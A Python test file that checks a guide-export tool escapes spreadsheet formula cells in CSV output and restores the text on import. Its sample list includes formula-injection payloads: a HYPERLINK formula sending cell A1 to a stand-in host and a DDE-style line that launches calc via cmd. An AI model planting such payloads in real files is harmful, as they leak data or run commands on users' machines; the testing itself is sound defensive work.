"""Spreadsheet safety: the CSV guide export escapes every cell a spreadsheet would run as a
formula (starting with =, +, -, @, tab or CR), and an import gives back the text as it was."""

from __future__ import annotations

import csv
import io
import json

from praktijkdesk.guides import dump_csv, dump_json, load_csv, load_json
from praktijkdesk.guides.bundled import bundled_guides
from praktijkdesk.guides.csv_format import FORMULA_STARTS

DANGEROUS = [
    '=HYPERLINK("http://example.invalid/?"&A1;"Klik")',
    "+31 6 12345678 bellen als het misgaat",
    "-2 graden in de vriezer controleren",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "'=al met een apostrof",
    "''@twee apostroffen",
    "'gewoon met een apostrof",
]


def _guide_with(texts: list[str]):
    data = json.loads(dump_json(bundled_guides()[0]))
    work_process = data["core_tasks"][0]["work_processes"][0]
    code = work_process["code"]
    work_process["behaviours"] = [
        {"id": f"{code}-{n}", "text": text} for n, text in enumerate(texts, start=1)
    ]
    data["title"] = "=Gevaarlijke titel"
    return load_json(json.dumps(data, ensure_ascii=False))


def test_no_exported_cell_starts_a_formula_and_the_round_trip_is_exact():
    guide = _guide_with(DANGEROUS)
    text = dump_csv(guide)
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'=1+1" in cells and "'+31 6 12345678 bellen als het misgaat" in cells
    back = load_csv(text.encode("utf-8-sig"), today="2026-01-01")
    assert [b.text for b in back.behaviours()] == [b.text for b in guide.behaviours()]
    assert back.title == "=Gevaarlijke titel"
    for dangerous in DANGEROUS:
        assert dangerous in [b.text for b in back.behaviours()]


def test_a_hand_made_csv_with_formula_text_is_kept_as_text():
    guide = bundled_guides()[0]
    rows = list(csv.reader(io.StringIO(dump_csv(guide)), delimiter=";"))
    header = rows[0]
    column = header.index("gedragsvoorbeeld")
    rows[1][column] = "=2+3"  # typed without the ' (a spreadsheet saved the text, not 5)
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
    back = load_csv(out.getvalue().encode("utf-8"), today="2026-01-01")
    assert back.behaviours()[0].text == "=2+3"
